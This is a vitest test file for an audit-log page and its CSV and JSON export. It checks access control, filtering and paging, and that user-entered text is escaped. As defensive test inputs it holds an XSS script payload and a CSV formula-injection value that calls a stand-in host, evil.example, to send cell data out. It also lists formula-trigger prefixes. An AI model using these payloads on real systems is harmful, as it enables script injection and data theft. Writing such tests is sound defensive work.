import { beforeEach, describe, expect, test } from 'vitest';
import type { AuditChange } from '../../shared/audit/audit.ts';
import { csvField } from '../../shared/audit/audit-export.ts';
import { expectUsableInBrowser, expectWhole } from '../harness/browser/check-drawn.ts';
import { fillPostroom } from '../harness/memory/sample-mail.ts';
import { NOW, type SamplePostroom, samplePostroom } from '../harness/pages/sample-postroom.ts';

const formula = '=HYPERLINK("https://evil.example/?"&A1)';
const evil = '"><script>alert(1)</script>';

let postroom: SamplePostroom;
beforeEach(() => {
  postroom = samplePostroom();
});
const record = (minutesAgo: number, change: Partial<AuditChange> = {}): Promise<void> =>
  postroom.audit.record({
    at: NOW - minutesAgo * 60_000,
    principal: { id: '11111111-2222-4333-8444-555555555555', name: 'Mira Sund' },
    action: 'changed',
    subject: { kind: 'provider', id: 'p1', name: 'Contoso' },
    before: { name: 'Contoso', 'client ID': undefined },
    after: { name: 'Contoso Ltd', 'client ID': '9c1c5a3e-8a7b-4f6e-9d43-0b6f3a6f5a10' },
    ...change,
  });
const html = async (path: string): Promise<string> => (await postroom.ask(path, { role: 'admin' })).text();

describe('the audit page', () => {
  test('shows who changed what, with the previous values', async () => {
    await record(5);
    const page = await html('/audit');
    expect(page).toContain('Mira Sund');
    expect(page.replaceAll(/<[^>]*>/g, '')).toMatch(/provider Contoso changed/);
    expect(page.replaceAll(/<[^>]*>/g, '')).toContain('name: Contoso → Contoso Ltd');
  });

  test('filters by one object, by one kind, or shows everything', async () => {
    await record(5);
    await record(4, { subject: { kind: 'provider', id: 'p2', name: 'Fabrikam' } });
    await record(3, { subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' } });
    const found = async (query: string): Promise<string[]> =>
      [...(await html(`/audit${query}`)).matchAll(/>(Contoso|Fabrikam|support@contoso.example)<\/a> /g)].map(
        ([, name]) => name ?? '',
      );
    expect(await found('')).toEqual(['support@contoso.example', 'Fabrikam', 'Contoso']);
    expect(await found('?kind=provider')).toEqual(['Fabrikam', 'Contoso']);
    expect(await found('?kind=provider&id=p1')).toEqual(['Contoso']);
    expect(await html('/audit?kind=provider&id=nobody')).toContain('No matching changes');
  });

  test('continues page by page and keeps the filter', async () => {
    for (let index = 0; index < 60; index++) await record(index);
    const first = await html('/audit?kind=provider');
    const next = /rel="next" href="([^"]*)"/.exec(first)?.[1]?.replaceAll('&amp;', '&') ?? '';
    expect(next).toContain('kind=provider');
    expect((await html(next)).match(/data-label="Who"/g)).toHaveLength(10);
  });

  test('runs no script that a person entered', async () => {
    await record(1, {
      principal: { id: 'x', name: evil },
      action: evil,
      subject: { kind: 'mailbox', id: evil, name: evil },
      before: { [evil]: evil },
      after: {},
    });
    const page = await html('/audit');
    expect(page).toContain('&lt;script');
    expect(page).not.toContain('<script>');
  });

  test('is for admins only', async () => {
    for (const path of ['/audit', '/audit/export.csv', '/audit/export.json'])
      expect((await postroom.ask(path, { role: 'agent' })).status).toBe(403);
  });
});

describe('the export', () => {
  test('as CSV has one line per setting, and no formula', async () => {
    await record(5);
    await record(4, { subject: { kind: 'mailbox', id: 'm1', name: formula }, after: { name: '\t@SUM(A1)' } });
    const answer = await postroom.ask('/audit/export.csv', { role: 'admin' });
    expect(answer.headers.get('content-type')).toBe('text/csv');
    expect(answer.headers.get('content-disposition')).toContain('attachment; filename="postroom-audit.csv"');
    const lines = Buffer.from(await answer.arrayBuffer())
      .toString('utf8')
      .split('\r\n');
    expect(lines[0]).toBe(
      '\ufeff"time","who","who (id)","what","kind","subject","subject (id)","setting","before","after"',
    );
    // The newest entry is this export.
    expect(lines).toHaveLength(6);
    expect(lines[1]).toContain('"exported","audit","Audit log"');
    expect(lines[2]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
    expect(lines[2]).toContain(`"name","Contoso","' @SUM(A1)"`);
    expect(lines[3]).toContain('"name","Contoso","Contoso Ltd"');
  });

  test.each(['=1', '+1', '-1', '@x', '\t=1', '\r=1', '  =1', '|calc', '%x', '＝1', '＋1', ' －1', '＠x'])(
    'keeps %j from being read as a formula',
    (text) => {
      expect(csvField(text)).toBe(`"'${text}"`);
    },
  );

  test.each(['csv', 'json'])('as %s is itself in the log, with the filter', async (format) => {
    await postroom.ask(`/audit/export.${format}?kind=mailbox`, { role: 'admin' });
    const [entry] = (await postroom.audit.page({ limit: 5 })).entries;
    expect(entry).toMatchObject({
      action: 'exported',
      subject: { kind: 'audit' },
      principal: { name: 'Mira Sund' },
    });
    expect(entry?.changes).toEqual(
      expect.arrayContaining([expect.objectContaining({ name: 'kind', after: 'mailbox' })]),
    );
  });

  test('as JSON contains the same, and only what was filtered', async () => {
    await record(5);
    await record(4, { subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' } });
    const entries: unknown = await (
      await postroom.ask('/audit/export.json?kind=mailbox', { role: 'admin' })
    ).json();
    expect(entries).toEqual([
      expect.objectContaining({
        at: '2026-11-24T09:56:00.000Z',
        subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' },
        changes: [
          { name: 'name', before: 'Contoso', after: 'Contoso Ltd' },
          { name: 'client ID', after: '9c1c5a3e-8a7b-4f6e-9d43-0b6f3a6f5a10' },
        ],
      }),
    ]);
    expect(await (await postroom.ask('/audit/export.json?kind=alert', { role: 'admin' })).json()).toEqual([]);
  });
});

test('closing and opening a ticket is a change, doing so twice is none', async () => {
  const { conversation } = await fillPostroom(postroom);
  for (const step of ['close', 'close', 'reopen'])
    await postroom.ask(`/tickets/${conversation}/${step}`, { method: 'POST' });
  const { entries } = await postroom.audit.page({ kind: 'ticket', limit: 10 });
  expect(entries.map(({ action, subject, changes }) => [action, subject.id, changes])).toEqual([
    ['reopened', conversation, [{ name: 'status', before: 'closed', after: 'open' }]],
    ['closed', conversation, [{ name: 'status', before: 'open', after: 'closed' }]],
  ]);
});

test('the page works in a browser, full, empty and for one object', async () => {
  const empty = await html('/audit');
  await record(5);
  await record(4, { subject: { kind: 'mailbox', id: 'm1', name: 'support.of.everything@contoso.example' } });
  await record(3, {
    action: 'secret replaced',
    before: { 'expires on': '2026-12-01' },
    after: { 'expires on': '2028-11-24', scopes: ['IMAP.AccessAsUser.All', 'SMTP.Send'] },
  });
  await record(2, { action: 'created', before: {}, after: { name: '', paused: false } });
  const drawn = {
    'no changes': empty,
    changes: await html('/audit'),
    'changes of one thing': await html('/audit?kind=provider&id=p1'),
    'no such changes': await html('/audit?kind=secret'),
  };
  expectWhole(drawn);
  await expectUsableInBrowser(drawn);
});
